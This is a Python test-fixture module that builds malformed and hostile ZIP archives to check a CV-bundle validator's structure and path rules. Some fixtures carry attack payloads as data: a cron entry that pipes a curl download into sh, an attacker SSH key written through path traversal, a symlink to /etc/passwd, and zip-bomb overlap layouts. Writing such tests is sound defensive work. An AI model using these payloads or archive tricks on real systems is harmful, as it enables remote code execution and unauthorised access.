"""Conformance cases at the archive level: ZIP-*, PATH-* and the junk and layout
warnings. Hostile archives are written with :mod:`zipraw` field by field."""

from __future__ import annotations

import io
import unicodedata
from dataclasses import replace

from . import zipraw
from .cases import Registry
from .minimal import add_lines, cv, cv_path, member_named, minimal_bundle, set_key
from .otherdocs import pdf

archive = Registry()


def _cv_member(members: list[zipraw.Member]) -> int:
    return member_named(members, cv_path(0))


@archive.case("error-zip-not-zip-text.zip",
              "A CSV export renamed .zip: no ZIP signature, no end record.", ["ZIP-NOT-ZIP"])
def not_zip_text() -> bytes:
    return ("external_id;nom;prénom;cv\r\nPRH-000901;Dupont;Marie;dupont-marie.docx\r\n"
            .encode("cp1252"))


@archive.case("error-zip-not-zip-empty.zip", "An empty file (0 bytes).", ["ZIP-NOT-ZIP"])
def not_zip_empty() -> bytes:
    return b""


@archive.case("error-zip-not-zip-rar.zip", "A RAR 5 archive renamed .zip.", ["ZIP-NOT-ZIP"])
def not_zip_rar() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + bytes.fromhex("33 92 b5 e5 0a 01 05 06 00 05 01 01 80 80 00")


@archive.case("error-zip-truncated.zip",
              "The first 60 % of a valid bundle: an upload cut short (no central directory).",
              ["ZIP-TRUNCATED"])
def truncated() -> bytes:
    data = minimal_bundle().zip()
    return data[: len(data) * 6 // 10]


@archive.case("error-zip-truncated-middle.zip",
              "4 KiB lost in the middle of the file: the end record is there but the central "
              "directory it points to is not.", ["ZIP-TRUNCATED"])
def truncated_middle() -> bytes:
    data = minimal_bundle().zip()
    middle = len(data) // 2
    return data[:middle] + data[middle + 4096 :]


@archive.case("error-zip-crc.zip",
              "The CV's bytes do not match its CRC-32 (one byte changed where it does not break "
              "the .docx: a timestamp in the .docx's first local header).", ["ZIP-CRC"])
def crc() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    damaged = bytearray(cv(0))
    damaged[10] ^= 0x01  # last-mod-time of the .docx's first local header
    payload = zipraw.deflate(bytes(damaged))
    members[i] = replace(members[i], payload=payload, compress_size=len(payload))
    return zipraw.build_zip(members)


@archive.case("error-zip-size-mismatch.zip",
              "Both headers of the CV declare 100 bytes more than it inflates to (CRC right).",
              ["ZIP-SIZE-MISMATCH"])
def size_mismatch() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], file_size=members[i].file_size + 100)
    return zipraw.build_zip(members)


@archive.case("error-zip-encrypted.zip",
              "The CV is encrypted with ZipCrypto (password 'parseo2026').", ["ZIP-ENCRYPTED"])
def encrypted() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = zipraw.encrypted(members[i], b"parseo2026", b"cvgen-seed!")
    return zipraw.build_zip(members)


def _recompressed(method: int) -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = zipraw.member(cv_path(0), cv(0), method=method)
    return zipraw.build_zip(members)


@archive.case("error-zip-method-bzip2.zip", "The CV is compressed with bzip2 (method 12).",
              ["ZIP-METHOD"])
def method_bzip2() -> bytes:
    return _recompressed(zipraw.BZIP2)


@archive.case("error-zip-method-lzma.zip", "The CV is compressed with LZMA (method 14).",
              ["ZIP-METHOD"])
def method_lzma() -> bytes:
    return _recompressed(zipraw.LZMA)


@archive.case("error-zip-nested.zip",
              "A .zip inside the bundle (an archive of older CVs).", ["ZIP-NESTED"])
def nested() -> bytes:
    b = minimal_bundle()
    inner = zipraw.build_zip([zipraw.member("dupont-marie-2019.docx", cv(0))])
    b.add("archives/anciens-cv.zip", inner, stored=True)
    return b.zip()


@archive.case("error-zip-nested-7z.zip", "A .7z archive inside the bundle.", ["ZIP-NESTED"])
def nested_7z() -> bytes:
    b = minimal_bundle()
    b.add("cvs/dossier-complet.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), stored=True)
    return b.zip()


@archive.case("error-zip-overlap.zip",
              "A stored member's data contains the next member (local header and data): the "
              "'quoted overlap' of zip bombs. Every header is otherwise consistent.",
              ["ZIP-OVERLAP"])
def overlap() -> bytes:
    members = minimal_bundle(edits={0: add_lines("attachment: cvs/annexe.pdf",
                                                 after="cv_file")}).members()
    i = _cv_member(members)
    victim = members[i]
    quoted = zipraw.local_header(victim) + victim.payload
    head = pdf(["Annexe"], "Annexe")
    data = head + quoted
    carrier = zipraw.member("cvs/annexe.pdf", data, method=zipraw.STORED)
    # Raw layout: carrier header, carrier data (= pdf + victim), then the rest.
    out = bytearray()
    central = []
    for m in members:
        if m is victim:
            continue
        central.append((m, len(out)))
        out += zipraw.local_header(m) + m.payload
    carrier_at = len(out)
    out += zipraw.local_header(carrier) + carrier.payload
    victim_at = carrier_at + len(zipraw.local_header(carrier)) + len(head)
    central += [(carrier, carrier_at), (victim, victim_at)]
    central.sort(key=lambda item: item[0].name)
    start = len(out)
    for m, offset in central:
        out += zipraw.central_header(m, offset)
    out += zipraw.end_record(len(central), len(out) - start, start)
    return bytes(out)


@archive.case("error-zip-overlap-shared.zip",
              "Overlap-bomb shape: three central records point at the CV's single local header; "
              "two of them carry other names.", ["ZIP-HEADER-MISMATCH", "ZIP-OVERLAP"])
def overlap_shared() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    clones = [
        replace(members[i], name=f"cvs/copie-{n}.docx".encode(), shares_local_of=i)
        for n in (1, 2)
    ]
    return zipraw.build_zip(members + clones)


@archive.case("error-zip-header-mismatch.zip",
              "The CV's local header names 'cvs/dupond-marie.docx', the central directory "
              "'cvs/dupont-marie.docx'.", ["ZIP-HEADER-MISMATCH"])
def header_mismatch_name() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    wrong = cv_path(0).replace("dupont", "dupond").encode()
    members[i] = replace(members[i], local=zipraw.HeaderPatch(name=wrong))
    return zipraw.build_zip(members)


@archive.case("error-zip-header-mismatch-crc.zip",
              "The CV's local header has another CRC-32 than the central directory (no data "
              "descriptor flag).", ["ZIP-HEADER-MISMATCH"])
def header_mismatch_crc() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], local=zipraw.HeaderPatch(crc=members[i].crc ^ 0x5A5A5A5A))
    return zipraw.build_zip(members)


@archive.case("error-zip-header-mismatch-size.zip",
              "The CV's local header declares other sizes than the central directory.",
              ["ZIP-HEADER-MISMATCH"])
def header_mismatch_size() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    m = members[i]
    members[i] = replace(m, local=zipraw.HeaderPatch(file_size=m.file_size * 2,
                                                     compress_size=m.compress_size + 7))
    return zipraw.build_zip(members)


def _with_extra(name: str | bytes, data: bytes, **options: object) -> bytes:
    b = minimal_bundle()
    members = b.members()
    members.append(zipraw.member(name, data, **options))  # type: ignore[arg-type]
    return zipraw.build_zip(zipraw.sorted_members(members))


@archive.case("error-path-absolute.zip", "A member named '/etc/cron.d/cvbridge'.",
              ["PATH-ABSOLUTE"])
def path_absolute() -> bytes:
    return _with_extra("/etc/cron.d/cvbridge", b"* * * * * root curl http://192.0.2.7/x | sh\n")


@archive.case("error-path-traversal.zip", "A member named '../../.ssh/authorized_keys'.",
              ["PATH-TRAVERSAL"])
def path_traversal() -> bytes:
    return _with_extra("../../.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nza... attacker\n")


@archive.case("error-path-traversal-inner.zip",
              "A member named 'cvs/../../hors-bundle.docx' ('..' after a normal segment).",
              ["PATH-TRAVERSAL"])
def path_traversal_inner() -> bytes:
    return _with_extra("cvs/../../hors-bundle.docx", cv(0))


@archive.case("error-path-backslash.zip",
              "The CV is stored as 'cvs\\dupont-marie.docx', as some Windows tools write.",
              ["PATH-BACKSLASH"])
def path_backslash() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], name=cv_path(0).replace("/", "\\").encode())
    return zipraw.build_zip(members)


@archive.case("error-path-drive.zip", "A member named 'C:/Users/Public/cv.docx'.",
              ["PATH-DRIVE"])
def path_drive() -> bytes:
    return _with_extra("C:/Users/Public/cv.docx", cv(0))


@archive.case("error-path-control.zip",
              "A member name with an ESC character (a terminal escape sequence).",
              ["PATH-CONTROL"])
def path_control() -> bytes:
    return _with_extra("notes/\x1b[2Jlisez-moi.docx", cv(0))


@archive.case("error-path-symlink.zip",
              "A Unix symbolic link entry 'cvs/lien.docx' -> '../../../etc/passwd' "
              "(external attributes 0o120777 << 16).", ["PATH-SYMLINK"])
def path_symlink() -> bytes:
    return _with_extra("cvs/lien.docx", b"../../../etc/passwd", method=zipraw.STORED,
                       external_attr=zipraw.SYMLINK_ATTR)


@archive.case("error-path-clash-case.zip",
              "'cvs/dupont-marie.docx' and 'cvs/Dupont-Marie.docx': the same file on Windows "
              "and macOS.", ["PATH-CLASH"])
def path_clash_case() -> bytes:
    return _with_extra("cvs/Dupont-Marie.docx", cv(0))


@archive.case("error-path-clash-unicode.zip",
              "'cvs/Lefèvre-Éléonore.docx' in NFC and 'cvs/LEFÈVRE-ÉLÉONORE.docx' in NFD "
              "(as macOS writes names): equal once case-folded and normalised.", ["PATH-CLASH"])
def path_clash_unicode() -> bytes:
    nfc = unicodedata.normalize("NFC", "cvs/Lefèvre-Éléonore.docx")
    b = minimal_bundle(edits={0: set_key("cv_file", nfc)})
    del b.files[cv_path(0)]
    b.add(nfc, cv(0))
    b.add(unicodedata.normalize("NFD", "cvs/LEFÈVRE-ÉLÉONORE.docx"), cv(0))
    return b.zip()


@archive.case("error-path-clash-duplicate.zip",
              "The CV appears twice under exactly the same name.", ["PATH-CLASH"])
def path_clash_duplicate() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    return zipraw.build_zip([*members[: i + 1], members[i], *members[i + 1 :]])


def _unflagged(encoded_name: bytes) -> bytes:
    name = "cvs/Lefèvre-Éléonore.docx"
    b = minimal_bundle(edits={0: set_key("cv_file", name)})
    del b.files[cv_path(0)]
    members = b.members()
    members.append(zipraw.member(encoded_name, cv(0), utf8=False))
    return zipraw.build_zip(zipraw.sorted_members(members))


@archive.case("warning-path-encoding.zip",
              "The CV's name 'cvs/Lefèvre-Éléonore.docx' is stored in cp850 without the UTF-8 "
              "flag (old Windows zip tools); read as cp850, it matches the reference.",
              ["PATH-ENCODING"])
def path_encoding() -> bytes:
    return _unflagged("cvs/Lefèvre-Éléonore.docx".encode("cp850"))


def path_encoding_utf8() -> bytes:
    """Valid (tests/test_archive_structure.py): the CV's name is UTF-8 without the UTF-8 flag
    (Info-ZIP on Linux, macOS); valid UTF-8 is no guess, so no PATH-ENCODING."""
    return _unflagged("cvs/Lefèvre-Éléonore.docx".encode())


_APPLE_DOUBLE = bytes.fromhex("00051607000200004d6163204f53205820202020202020200002") + bytes(60)


@archive.case("warning-layout-junk.zip",
              "Leftovers: __MACOSX/ AppleDouble files, .DS_Store, Thumbs.db, desktop.ini and a "
              "Word lock file '~$pont-marie.docx'; all ignored.", ["LAYOUT-JUNK"])
def layout_junk() -> bytes:
    b = minimal_bundle()
    owner = "Marie Dupont".encode("cp1252")
    b.add("__MACOSX/cvs/._dupont-marie.docx", _APPLE_DOUBLE)
    b.add("cvs/.DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(120))
    b.add("cvs/Thumbs.db", bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504))
    ini = "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,-3\r\n"
    b.add("desktop.ini", b"\xff\xfe" + ini.encode("utf-16-le"))
    b.add("cvs/~$pont-marie.docx", bytes([len(owner)]) + owner + bytes(162 - 1 - len(owner)))
    return b.zip()


@archive.case("warning-layout-wrapped.zip",
              "Every member under 'Export CV Parséo/' (no directory entries); stripped.",
              ["LAYOUT-WRAPPED"])
def layout_wrapped() -> bytes:
    return minimal_bundle(2).zip(wrap="Export CV Parséo")


@archive.case("warning-layout-wrapped-macos.zip",
              "macOS Finder 'Compress': the folder 'Export/' plus '__MACOSX/Export/._*' "
              "AppleDouble files. Junk is ignored first, then the wrapping folder stripped.",
              ["LAYOUT-JUNK", "LAYOUT-WRAPPED"])
def layout_wrapped_macos() -> bytes:
    b = minimal_bundle()
    members = b.members(wrap="Export", directories=True)
    for path in sorted(b.files):
        folder, _, name = path.rpartition("/")
        junk = "/".join(filter(None, ["__MACOSX/Export", folder, "._" + name]))
        members.append(zipraw.member(junk, _APPLE_DOUBLE))
    members.append(zipraw.directory("__MACOSX/"))
    return zipraw.build_zip(zipraw.sorted_members(members))


@archive.case("warning-layout-unreferenced.zip",
              "An older CV 'cvs/dupont-marie-2024.docx' that no candidate file references.",
              ["LAYOUT-UNREFERENCED"])
def layout_unreferenced() -> bytes:
    b = minimal_bundle()
    b.add("cvs/dupont-marie-2024.docx", cv(0))
    return b.zip()


def _declared(file_size: int, zip64: bool) -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], file_size=file_size, zip64=zip64)
    return zipraw.build_zip(members)


@archive.case("error-limit-member-size-declared.zip",
              "The CV's headers declare 100 000 000 bytes uncompressed (patched; it really "
              "inflates to a few KB). Limits are checked on declared sizes, and a member that "
              "breaks one is not inflated: the declared ratio is over 200:1 too.",
              ["LIMIT-MEMBER-SIZE", "LIMIT-RATIO"])
def member_size_declared() -> bytes:
    return _declared(100_000_000, zip64=False)


@archive.case("error-limit-member-size-zip64.zip",
              "The CV's headers declare 3 GiB through a ZIP64 extra field (in the local and the "
              "central header): over member_size, ratio and total_size, all from declared sizes.",
              ["LIMIT-MEMBER-SIZE", "LIMIT-RATIO", "LIMIT-TOTAL-SIZE"])
def member_size_zip64() -> bytes:
    return _declared(3 << 30, zip64=True)


# -- one reading of the archive (issue 13): every way a ZIP can be read twice is refused ----


def _written(members: list[zipraw.Member], comment: bytes = b"", *, stub: bytes = b"",
             gap_after: int | None = None, gap: bytes = b"") -> tuple[bytes, int]:
    """The archive with ``stub`` before the first member (offsets counted from the file's
    start, as zip -A leaves them) and ``gap`` after member ``gap_after``; and where its
    central directory starts."""
    buffer = io.BytesIO()
    writer = zipraw.ZipWriter(buffer)
    writer.pad(stub)
    for index, m in enumerate(members):
        writer.add(m)
        if index == gap_after:
            writer.pad(gap)
    cd_start = writer.pos
    writer.finish(comment)
    return buffer.getvalue(), cd_start


@archive.case("error-zip-end-ambiguous.zip",
              "The archive comment hides a second central directory and end record, listing "
              "the same members with another manifest (bundle_id 'CACHE-0001'): read from the "
              "last end record, it is another bundle. Both end records parse.",
              ["ZIP-END-AMBIGUOUS"])
def end_ambiguous() -> bytes:
    shown = minimal_bundle().members()
    hidden_manifest = minimal_bundle(manifest=set_key("bundle_id", "CACHE-0001")).files[
        "manifest.txt"]
    hidden = zipraw.member("manifest.txt", hidden_manifest)
    buffer = io.BytesIO()
    writer = zipraw.ZipWriter(buffer)
    for m in shown:
        writer.add(m)
    hidden_at = writer.pos
    writer.pad(zipraw.local_header(hidden) + hidden.payload)
    outer_cd = writer.pos
    outer = b"".join(zipraw.central_header(m, o)
                     for m, o in zip(writer.members, writer.offsets, strict=True))
    hidden_offsets = [hidden_at if m.name == b"manifest.txt" else o
                      for m, o in zip(writer.members, writer.offsets, strict=True)]
    hidden_members = [hidden if m.name == b"manifest.txt" else m for m in writer.members]
    inner_cd = outer_cd + len(outer) + 22
    inner = b"".join(zipraw.central_header(m, o)
                     for m, o in zip(hidden_members, hidden_offsets, strict=True))
    comment = inner + zipraw.end_record(len(hidden_members), len(inner), inner_cd)
    return (buffer.getvalue() + outer
            + zipraw.end_record(len(shown), len(outer), outer_cd, comment))


@archive.case("error-zip-end-ambiguous-comment.zip",
              "The archive comment contains an end-of-central-directory signature that parses "
              "nowhere ('PK\\x05\\x06' and 18 bytes of 0xFF): readers that take the last "
              "signature read another archive.", ["ZIP-END-AMBIGUOUS"])
def end_in_comment() -> bytes:
    return zipraw.build_zip(minimal_bundle().members(), b"PK\x05\x06" + b"\xff" * 18)


@archive.case("error-zip-trailing-data.zip",
              "512 bytes appended after the end record (an upload tool padding the file): the "
              "comment length (0) does not reach the end of the file.", ["ZIP-TRAILING-DATA"])
def trailing_data() -> bytes:
    return minimal_bundle().zip() + bytes(512)


@archive.case("error-zip-truncated-comment.zip",
              "The end record declares a 100-byte comment; the file ends 60 bytes into it.",
              ["ZIP-TRUNCATED"])
def truncated_comment() -> bytes:
    return zipraw.build_zip(minimal_bundle().members(), b"Export Parseo " * 8)[:-60]


@archive.case("error-zip-zip64-mismatch.zip",
              "A zip64 end record and locator whose entry count (99) disagrees with the "
              "classic end record's (the true one, not a 0xFFFF mark).", ["ZIP-ZIP64-MISMATCH"])
def zip64_mismatch() -> bytes:
    return zipraw.build_zip(minimal_bundle().members(), zip64_entries=99, marks=False)


def zip64_end_record() -> bytes:
    """Valid: a zip64 end record and locator with the right count, the classic record full
    of 0xFFFF marks (what zip -fz and 7-Zip write for big archives)."""
    members = minimal_bundle().members()
    return zipraw.build_zip(members, zip64_entries=len(members))


@archive.case("error-zip-directory-mismatch-count.zip",
              "The end record counts one entry more than the central directory holds.",
              ["ZIP-DIRECTORY-MISMATCH"])
def directory_count() -> bytes:
    data = bytearray(minimal_bundle().zip())
    end = len(data) - 22
    count = int.from_bytes(data[end + 10:end + 12], "little") + 1
    data[end + 8:end + 12] = count.to_bytes(2, "little") * 2
    return bytes(data)


@archive.case("error-zip-prepended.zip",
              "A self-extractor: a 4 KiB 'MZ' stub before the archive, offsets not adjusted "
              "(cat sfx.exe bundle.zip).", ["ZIP-PREPENDED"])
def prepended() -> bytes:
    return b"MZ" + bytes(4094) + minimal_bundle().zip()


@archive.case("error-zip-prepended-adjusted.zip",
              "The same stub with every offset adjusted to it (zip -A): the members are where "
              "the central directory says, but 4096 bytes before them belong to none.",
              ["ZIP-PREPENDED"])
def prepended_adjusted() -> bytes:
    return _written(minimal_bundle().members(), stub=b"MZ" + bytes(4094))[0]


@archive.case("error-zip-gap.zip",
              "64 bytes that belong to no member between the manifest and the next member.",
              ["ZIP-GAP"])
def gap() -> bytes:
    members = minimal_bundle().members()
    return _written(members, gap_after=member_named(members, "manifest.txt"),
                    gap=b"cache " * 10 + b"\0\0\0\0")[0]


def _streamed_cv(**changes: object) -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(zipraw.streamed(members[i]), **changes)  # type: ignore[arg-type]
    return zipraw.build_zip(members)


def descriptor_unsigned() -> bytes:
    """Valid: the CV streamed with a data descriptor without its optional signature."""
    return _streamed_cv(descriptor_signed=False)


@archive.case("error-zip-descriptor-mismatch.zip",
              "The CV streamed, its data descriptor giving another CRC-32 than the central "
              "directory (which matches the data).", ["ZIP-DESCRIPTOR-MISMATCH"])
def descriptor_mismatch() -> bytes:
    return _streamed_cv(descriptor_crc=0x0BADC0DE)


@archive.case("error-zip-descriptor-mismatch-missing.zip",
              "The CV flagged as followed by a data descriptor (bit 3) with none written; the "
              "local header holds the real CRC and sizes.", ["ZIP-DESCRIPTOR-MISMATCH"])
def descriptor_missing() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], flags=members[i].flags | zipraw.FLAG_DATA_DESCRIPTOR)
    return zipraw.build_zip(members)


@archive.case("error-zip-header-mismatch-streamed.zip",
              "The CV streamed, its local header giving a CRC-32 that is neither zero nor the "
              "central directory's.", ["ZIP-HEADER-MISMATCH"])
def header_mismatch_streamed() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    m = zipraw.streamed(members[i])
    # local_header() zeroes CRC and sizes of a streamed member: patch the bytes after it.
    data = bytearray(zipraw.build_zip([*members[:i], m, *members[i + 1:]]))
    at = data.find(zipraw.local_header(m))
    data[at + 14:at + 18] = (m.crc ^ 0xFFFF).to_bytes(4, "little")
    return bytes(data)


@archive.case("error-zip-header-mismatch-flags.zip",
              "The CV's local header sets the UTF-8 flag, its central record does not.",
              ["ZIP-HEADER-MISMATCH"])
def header_mismatch_flags() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i],
                         local=zipraw.HeaderPatch(flags=members[i].flags | zipraw.FLAG_UTF8))
    return zipraw.build_zip(members)


@archive.case("error-zip-entry-invalid-offset.zip",
              "The CV's central record gives its local header offset through a zip64 extra "
              "field as 2^63 (no file is that big; a seek there raises).",
              ["ZIP-ENTRY-INVALID"])
def entry_offset_huge() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], central_zip64_offset=1 << 63)
    return zipraw.build_zip(members)


@archive.case("error-zip-entry-invalid-size.zip",
              "The CV's zip64 extra fields declare a compressed size of 2^64 - 1 bytes.",
              ["ZIP-ENTRY-INVALID"])
def entry_size_huge() -> bytes:
    members = minimal_bundle().members()
    i = _cv_member(members)
    members[i] = replace(members[i], zip64=True, compress_size=(1 << 64) - 1)
    return zipraw.build_zip(members)


@archive.case("error-zip-split.zip",
              "The end record says it is on disk 1 of a split archive (zip -s).", ["ZIP-SPLIT"])
def split() -> bytes:
    data = bytearray(minimal_bundle().zip())
    data[len(data) - 22 + 4:len(data) - 22 + 6] = (1).to_bytes(2, "little")
    return bytes(data)


def _damaged_junk(damage: bytes) -> bytes:
    """A bundle with a __MACOSX AppleDouble file that no candidate refers to, whose
    compressed bytes were overwritten from byte 2 on with ``damage``."""
    b = minimal_bundle()
    members = b.members()
    junk = zipraw.member("__MACOSX/cvs/._dupont-marie.docx", _APPLE_DOUBLE)
    payload = junk.payload[:2] + damage + junk.payload[2 + len(damage):]
    members.append(replace(junk, payload=payload, compress_size=len(payload)))
    return zipraw.build_zip(zipraw.sorted_members(members))


@archive.case("error-zip-crc-unreferenced.zip",
              "An AppleDouble file under __MACOSX/ (junk, referenced by nobody) whose data "
              "fails its CRC-32: every member is checked, not only the ones read.",
              ["LAYOUT-JUNK", "ZIP-CRC"])
def crc_unreferenced() -> bytes:
    b = minimal_bundle()
    members = b.members()
    junk = zipraw.member("__MACOSX/cvs/._dupont-marie.docx", _APPLE_DOUBLE, method=zipraw.STORED)
    damaged = bytearray(junk.payload)
    damaged[30] ^= 0x40
    members.append(replace(junk, payload=bytes(damaged)))
    return zipraw.build_zip(zipraw.sorted_members(members))


@archive.case("error-zip-inflate.zip",
              "The same AppleDouble file deflated, its deflate stream damaged (an invalid "
              "block type): the error is the inflater's, not a truncation.",
              ["LAYOUT-JUNK", "ZIP-INFLATE"])
def inflate_error() -> bytes:
    return _damaged_junk(b"\xff\xff\xff\xff")


@archive.case("error-path-not-utf8.zip",
              "A member flagged UTF-8 (bit 11) whose name is cp850 bytes, not UTF-8.",
              ["PATH-NOT-UTF8"])
def path_not_utf8() -> bytes:
    return _with_extra("annexes/r\x82sum\x82.pdf".encode("latin-1"), b"%PDF-1.4\n%%EOF\n",
                       utf8=True)
